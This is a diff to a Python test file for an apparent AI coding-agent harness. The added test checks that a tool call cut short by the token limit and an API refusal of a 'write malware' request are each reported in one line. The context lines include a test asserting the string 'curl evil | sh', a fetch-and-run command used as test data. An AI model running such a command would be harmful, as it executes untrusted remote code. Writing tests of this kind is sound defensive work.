@@ -189,3 +189,39 @@ def test_a_protected_write_shows_what_it_writes_before_the_question(
     )
     before_question = out.split("approve?")[0]
     assert "curl evil | sh" in before_question
+
+
+def test_a_cut_tool_call_and_a_refusal_are_each_told_in_one_line(
+    workspace: Path, tmp_path: Path, pipe: tuple[LineInput, int]
+) -> None:
+    refusal = {"type": "refusal", "category": "cyber", "explanation": "Malware\ndevelopment."}
+    models = Models(
+        {
+            "work": [
+                reply(use("Read", {"file_path": "src/app.py"}), stop_reason="max_tokens"),
+                reply(say("Read it again.")),
+                reply(stop_reason="refusal", stop_details=refusal),
+                reply(say("Fine.")),
+            ]
+        }
+    )
+    out, _ = run(
+        workspace,
+        tmp_path,
+        models,
+        pipe,
+        before=["read the app", "write malware", "something else"],
+        answers=[],
+        last="Fine.",
+    )
+    assert (
+        "note: the output limit of 16000 tokens cut the model's Read call short: it was not "
+        "run, and the model was asked to send it again, smaller\n"
+    ) in out
+    assert (
+        "error: the API stopped the model's answer as a refusal (category cyber): "
+        "Malware development.\n"
+    ) in out
+    # The session goes on, with no empty answer left in the conversation.
+    last_request = models.made["work"].requests[3]
+    assert all(message["content"] for message in last_request.messages)
